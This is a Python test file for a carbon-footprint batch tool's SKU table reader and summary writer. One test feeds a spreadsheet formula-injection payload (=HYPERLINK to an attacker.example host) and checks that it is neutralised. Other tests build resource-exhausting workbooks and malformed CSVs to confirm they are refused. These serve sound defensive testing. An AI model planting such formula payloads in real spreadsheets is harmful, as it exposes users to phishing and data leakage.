    sample = [r for r in rows if r.id in ("NMC811-080-DE-8Y", "LFP-120-CNSW-10Y", "NMC811-040-CN-8Y")]
    small = tmp_path / "sample.csv"  # the sample rows, models by absolute path, no label PDFs here
    with open(skus, newline="", encoding="utf-8") as src, open(small, "w", newline="", encoding="utf-8") as dst:
        reader, writer = csv.DictReader(src), None
        for r in reader:
            if writer is None:
                writer = csv.DictWriter(dst, fieldnames=reader.fieldnames)
                writer.writeheader()
            if r["id"] in {s.id for s in sample}:
                writer.writerow(dict(r, model=str(skus.parent / r["model"]), label=""))
    report = run_batch(small, tmp_path / "out", json_per_sku=True)
    assert (report.computed, report.failed) == (3, 0)
    for row in sample:
        result = json.loads((tmp_path / "out" / f"{row.id}.result.json").read_text())
        assert _same_as_footprint(result, row.model, row.overrides, row.scenario or None) == [], row.id
    summary = _summary(tmp_path / "out")
    de = next(r for r in summary.values() if r["id"] == "NMC811-080-DE-8Y")
    result = json.loads((tmp_path / "out" / "NMC811-080-DE-8Y.result.json").read_text())
    declared = result["assessment"]["declared_total"]
    assert float(de["declared_per_declared_unit"]) == pytest.approx(declared["per_declared_unit"], rel=1e-12)
    assert float(de["declared_kg_co2e"]) == pytest.approx(declared["kg_co2e"], rel=1e-12)
    # a literature model does not conform to the EU rule (no plant data), so the PCR grades it
    # with no class; the class its figure falls in is still reported
    assert de["conforms"] == "false" and int(de["nonconformities"]) >= 1 and de["performance_class"] == ""
    assert de["class_of_declared_figure"] == result["assessment"]["performance_class"]["thresholds"][
        [t["max"] is None or declared["per_declared_unit"] <= t["max"]
         for t in result["assessment"]["performance_class"]["thresholds"]].index(True)]["class"]


def test_summary_csv_neutralises_spreadsheet_formulas(bd, model, tmp_path):
    # issue 19 reproducer: a SKU name =HYPERLINK("http://...") was written verbatim into
    # summary.csv (spreadsheet formula injection); OWASP: prefix such text cells with a quote
    path = tmp_path / "skus.csv"
    path.write_text('id,name,cap,loop,elec_a\n'
                    'F1,"=HYPERLINK(""http://attacker.example/?x=1"",""click"")",4,0.2,20\n'
                    'F2,+1+2,4,0.2,20\n'
                    'F3,-2+3,4,0.2,20\n'
                    'F4,@SUM(1+1),4,0.2,20\n'
                    'F5,"--",4,0.2,20\n'
                    'F6,plain,-1,,\n', encoding="utf-8")
    run_batch(path, tmp_path / "out", model, results=False)
    rows = _summary(tmp_path / "out")
    assert rows[2]["name"] == "'=HYPERLINK(\"http://attacker.example/?x=1\",\"click\")"
    assert [rows[r]["name"] for r in (3, 4, 5, 6, 7)] == ["'+1+2", "'-2+3", "'@SUM(1+1)", "'--", "plain"]
    assert rows[7]["cap"] == "-1.0"  # a negative number is a number, not text: no quote
    assert rows[7]["status"] == "error" and not rows[7]["error"].startswith("'")
    import pyarrow.parquet as pq

    parquet = pq.read_table(tmp_path / "out" / "summary.parquet").to_pylist()
    assert parquet[0]["name"].startswith("=HYPERLINK(")  # typed Parquet keeps the text as it was
    # the table reader trims names; tab and carriage return (OWASP's other two) at the helper
    assert [safe_cell(v) for v in ("\tx", "\rx", "x=1", -1.5, -2, True, None)] == ["'\tx", "'\rx", "x=1", -1.5, -2,
                                                                                  True, None]


# --------------------------------------------------------------------------- hostile tables (issue 19 part 7)


def _refused(path, message: str, line: int | None) -> str:
    from pcf.batch import SkuTable

    with pytest.raises(TableError) as info:
        list(SkuTable(path, "m.yaml"))
    where = f"{path}:{line}: " if line is not None else f"{path}: "
    assert str(info.value).startswith(where) and message in str(info.value), str(info.value)
    return str(info.value)


def test_unclosed_quote_is_refused_at_its_line(tmp_path):
    # reproducer: an unclosed quote swallowed every later row into one name and the run exited 0
    path = tmp_path / "skus.csv"
    path.write_text('id,name,cap\nA,"first,1\nB,second,2\nC,third,3\n', encoding="utf-8")
    text = _refused(path, "the quote that opens a cell on line 2 is never closed", 2)
    assert "to line 4" in text


def test_text_after_a_closing_quote_is_refused(tmp_path):
    path = tmp_path / "skus.csv"
    path.write_text('id,name,cap\nA,ok,1\nB,"say "hi"",2\n', encoding="utf-8")
    _refused(path, "a quoted cell goes on after its closing quote", 3)


def test_a_cell_over_131072_characters_is_a_table_error(tmp_path):
    # reproducer: a CSV field over 131,072 characters gave a _csv.Error traceback
    path = tmp_path / "skus.csv"
    path.write_text("id,name,cap\nA,a,1\nB," + "x" * 131_073 + ",2\n", encoding="utf-8")
    _refused(path, "a cell longer than 131,072 characters", 3)
    path.write_text("id,name,cap\nA," + "x" * 131_072 + ",1\n", encoding="utf-8")  # at the limit: read
    assert len(list(SkuTable(path, "m.yaml"))[0].name) == 131_072


def test_row_column_line_and_size_limits(tmp_path, monkeypatch):
    from pcf.batch import table

    path = tmp_path / "skus.csv"
    path.write_text("id,cap\nA,1\n" + "\n" * table.MAX_ROWS, encoding="utf-8")  # blank lines are rows too
    _refused(path, f"more than {table.MAX_ROWS:,} rows", table.MAX_ROWS + 1)
    path.write_text(",".join(f"p{i}" for i in range(table.MAX_COLUMNS)) + ",id\n", encoding="utf-8")
    _refused(path, f"16,385 cells in one row, more than {table.MAX_COLUMNS:,}", 1)
    path.write_text("id,cap\nA,1\nB," + "," * table.MAX_LINE_CHARS + "\n", encoding="utf-8")
    _refused(path, "a line longer than 4,194,304 characters", 3)
    with path.open("r+b") as f:  # a sparse file one byte over the limit
        f.truncate(table.MAX_FILE_BYTES + 1)
    _refused(path, f"more than {table.MAX_FILE_BYTES:,}", None)
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["id", "cap"])
    wb.save(tmp_path / "skus.xlsx")
    monkeypatch.setattr(table, "MAX_XLSX_UNPACKED", 1000)
    _refused(tmp_path / "skus.xlsx", "the workbook unpacks to", None)


def _empty_rows_workbook(path, rows: int) -> None:
    """A workbook of a header, one row and then ``rows`` empty row elements ``<row/>``."""
    import io
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["id", "cap"])
    wb.active.append(["A", 1])
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"</sheetData>")
                data = head + b"<row/>" * rows + b"</sheetData>" + tail
            dst.writestr(info.filename, data)


def test_a_small_workbook_with_twenty_million_empty_rows_is_refused(tmp_path):
    # reproducer: a 180 KB xlsx with 20 million empty rows ran over 300 s at 2 GB
    path = tmp_path / "skus.xlsx"
    _empty_rows_workbook(path, 20_000_000)
    assert path.stat().st_size < 200_000
    _refused(path, "the first sheet has more than 1,048,576 rows, empty ones counted", None)
    _empty_rows_workbook(path, 1000)  # trailing empty rows below the limit are blank lines
    assert [(r.row, r.id, r.overrides) for r in SkuTable(path, "m.yaml")] == [(2, "A", {"cap": 1.0})]


def test_a_sheet_claiming_twenty_million_rows_is_refused(tmp_path):
    import io
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["id", "cap"])
    buf = io.BytesIO()
    wb.save(buf)
    path = tmp_path / "skus.xlsx"
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":  # one cell at row 20,000,000 and a dimension to it
                data = data.replace(b'ref="A1:B1"', b'ref="A1:B20000000"').replace(
                    b"</sheetData>", b'<row r="20000000"><c r="B20000000"><v>1</v></c></row></sheetData>')
            dst.writestr(info.filename, data)
    _refused(path, "the first sheet claims 20,000,000 rows", None)


def test_formula_cells_without_a_computed_value_are_row_errors(tmp_path):
    # reproducer: xlsx formula cells without a cached value were read as empty, so the model's
    # default was used silently (openpyxl writes formulas without computing them)
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in (["id", "name", "cap"], ["A", "first", "=2*2"], ["B", '=CONCAT("a","b")', 3], ["C", "third", 5]):
        ws.append(row)
    path = tmp_path / "skus.xlsx"
    wb.save(path)
    a, b, c = SkuTable(path, "m.yaml")
    assert a.error == "cap: a formula without a computed value in the file (it was saved by a program that " \
                      "does not calculate); open and save the workbook in a spreadsheet program, or type the value"
    assert a.overrides == {}
    assert b.error.startswith("name: a formula without a computed value")
    assert (c.error, c.overrides) == ("", {"cap": 5.0})
    ws["C1"] = "=UPPER(\"cap\")"  # in the header: the whole table
    wb.save(path)
    _refused(path, "header cell 3 is a formula without a computed value", 1)


def test_formula_cells_with_a_computed_value_are_read(tmp_path):
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    for row in (["id", "cap"], ["A", "=2*2"]):
        wb.active.append(row)
    path = tmp_path / "skus.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:  # what a spreadsheet program saves: the formula and its value
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"<f>2*2</f><v></v>",
                                                                                  b"<f>2*2</f><v>4</v>")
    assert b"<v>4</v>" in parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    (row,) = SkuTable(path, "m.yaml")
    assert (row.error, row.overrides) == ("", {"cap": 4.0})


def test_a_workbook_of_only_a_chart_sheet_is_a_table_error(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.create_chartsheet()
    wb.remove(wb.active)
    path = tmp_path / "skus.xlsx"
    wb.save(path)
    _refused(path, "not a readable Excel workbook", None)  # openpyxl's own refusal, not an IndexError


def test_model_cell_naming_a_folder_is_a_row_error(bd, model, tmp_path):
    # reproducer: a model cell that named a folder aborted the whole batch with a traceback
    (tmp_path / "folder").mkdir()
    path = tmp_path / "skus.csv"
    path.write_text(f"id,model,cap\nOK,{model.name},4\nDIR,folder,4\nNUL,a\0b,4\n", encoding="utf-8")
    report = run_batch(path, tmp_path / "out", results=False)
    assert (report.computed, report.failed) == (1, 2)
    rows = _summary(tmp_path / "out")
    assert rows[3]["error"] == f"row 3: model: {tmp_path / 'folder'} is a folder, not a model file"
    assert rows[4]["error"] == "row 4: model: not a file name (it holds a NUL character)"


def test_rows_without_parameter_columns(bd, model, tmp_path):
    # benchmarks/fuzz.py table mutant 530 (seed 19): a header without parameter columns gave an
    # IndexError in summarise_rows (one evaluation, indexed per row); each row is the model as
    # written: 1.25 x 6.571 + 2.5 x 3.873 = 17.89625 (module docstring, base)
    path = tmp_path / "skus.csv"
    path.write_text("id,name\nA,first\nB,second\nC,third\n", encoding="utf-8")
    report = run_batch(path, tmp_path / "out", model, results=False)
    assert (report.computed, report.failed) == (3, 0)
    rows = _summary(tmp_path / "out")
    assert [float(r["total_kg_co2e"]) for r in rows.values()] == pytest.approx([17.89625] * 3, rel=REL)


STREAM_TABLE = "id,name,cap,loop,elec_a\n" + "".join(
    f"S{i},{'' if i % 3 else 'named'},{2 + i % 4},{0.05 * (i % 5)},{10 + i}\n" for i in range(10))


def test_summary_written_while_rows_compute_is_the_summary_of_the_state(bd, model, tmp_path, monkeypatch):
    """A summary-only run computing every row of its table on arrays writes its summary block by
    block as the chunks are committed (pcf.batch.summary.SummaryStream): the same bytes, CSV and
    Parquet, as the summary written from the state at the end (a run whose chunks are not the
    summary's blocks), with one process or two, and resumed after a change of one row."""
    from pcf.batch import run

    path = tmp_path / "skus.csv"
    path.write_text(STREAM_TABLE, encoding="utf-8")
    monkeypatch.setattr(run, "SUMMARY_BLOCK", 3)
    monkeypatch.setattr(run, "CHUNK", 3)
    state = run_batch(path, tmp_path / "state", model, results=False, chunk_size=2)  # chunks of 2: from the state
    assert (state.computed, state.failed) == (10, 0)
    streamed = run_batch(path, tmp_path / "streamed", model, results=False)
    monkeypatch.setattr(run, "STARTUP_S", 0.0)  # the workers take over after the first chunk
    pool = run_batch(path, tmp_path / "pool", model, jobs=2, results=False)
    assert (streamed.computed, pool.computed, pool.workers) == (10, 10, 2)
    for out in ("streamed", "pool"):
        for name in ("summary.csv", "summary.parquet"):
            assert (tmp_path / out / name).read_bytes() == (tmp_path / "state" / name).read_bytes(), (out, name)
        assert not [p.name for p in (tmp_path / out).iterdir() if p.name.endswith(".tmp")]
    path.write_text(STREAM_TABLE.replace("S3,named", "S3,renamed"), encoding="utf-8")
    again = run_batch(path, tmp_path / "streamed", model, results=False)  # a resumed run: from the state
    assert (again.computed, again.skipped) == (1, 9)
    assert _summary(tmp_path / "streamed")[5]["name"] == "renamed"


def test_summary_stream_holds_early_chunks_and_gives_up_on_others(tmp_path):
    """SummaryStream writes the blocks in the table's order whatever order their chunks come in,
    each row as the csv module writes the row-by-row summary (summary_row, write_summary); a
    commit with a record of a row computed alone, or a chunk that is not a block, ends it: no
    summary and no temporary file is left."""
    import pyarrow.parquet as pq

    from pcf.batch.summary import SummaryStream, chunk_table, columns, summary_row, write_summary

    names = columns(["cap"])
    rows = np.arange(2, 10)
    cap = np.array([4.0, np.nan, 1e16, 2.5e-7, 4.0, 0.1, np.nan, 3.0])
    totals = [1.0, 0.0, 3.3333333333333335, 1e22, -58.5, 2.0, 7.0, 1e-5]
    records = [{"row": int(r), "id": f"S{r}", "name": "a, \"b\"" if r % 2 else "=x", "model": "m.yaml",
                "scenario": "", "input_sha256": "h" * 64, "pcr": None, "status": "ok", "error": None,
                "total_kg_co2e": t, "production_kg_co2e": t / 4, "declared_unit": "kWh",
                "overrides": {} if c != c else {"cap": c}} for r, t, c in zip(rows, totals, cap)]

    def chunk(lo, hi):
        fields = ("row", "id", "name", "model", "scenario", "input_sha256", "total_kg_co2e", "production_kg_co2e",
                  "declared_unit")
        return chunk_table({k: [r[k] for r in records[lo:hi]] for k in fields}, hi - lo)

    used = {"cap": np.where(np.isnan(cap), 2.0, cap)}
    (tmp_path / "stream").mkdir()
    stream = SummaryStream(names, tmp_path / "stream", rows, used, 3)
    for lo, hi in [(3, 6), (6, 8), (0, 3)]:
        stream.add([], chunk(lo, hi))
    files = stream.finish()
    write_summary((summary_row(r, ["cap"], {"cap": 2.0}) for r in records), names, tmp_path)
    assert files["csv"].read_bytes() == (tmp_path / "summary.csv").read_bytes()
    table = pq.read_table(files["parquet"])
    assert table.column("cap").to_pylist() == used["cap"].tolist()
    assert table.column("production_share").to_pylist() == [None if t == 0 else t / 4 / t for t in totals]
    assert pq.ParquetFile(files["parquet"]).metadata.num_row_groups == 3
    for i, broken in enumerate(([(0, 3, [records[3]])], [(0, 2, [])], [(0, 3, []), (3, 6, []), (0, 3, [])])):
        out = tmp_path / f"broken-{i}"
        out.mkdir()
        stream = SummaryStream(names, out, rows, used, 3)
        for lo, hi, alone in broken:
            stream.add(alone, chunk(lo, hi))
        assert stream.finish() is None and list(out.iterdir()) == []


@pytest.mark.parametrize("summary_only", [False, True])
def test_a_batch_writes_its_files_as_the_umask_says(bd, model, table, tmp_path, summary_only):
    """summary.csv, summary.parquet, the state, its chunks, the store's plan, parts and index: 0644 under
    umask 022 like the user's other files (they were 0600, mkstemp's mode)."""
    import os
    import stat

    out = tmp_path / "out"
    old = os.umask(0o022)
    try:
        run_batch(table, out, model, jobs=2, chunk_size=2, results=not summary_only)
    finally:
        os.umask(old)
    files = [p for p in out.rglob("*") if p.is_file()]
    assert {"summary.csv", "summary.parquet", "batch-state.jsonl"} <= {p.name for p in files}
    assert summary_only or any(p.suffix == ".parquet" and p.parent != out for p in files)  # the store's parts
    assert {str(p.relative_to(out)): stat.S_IMODE(p.stat().st_mode) for p in files} == \
        {str(p.relative_to(out)): 0o644 for p in files}
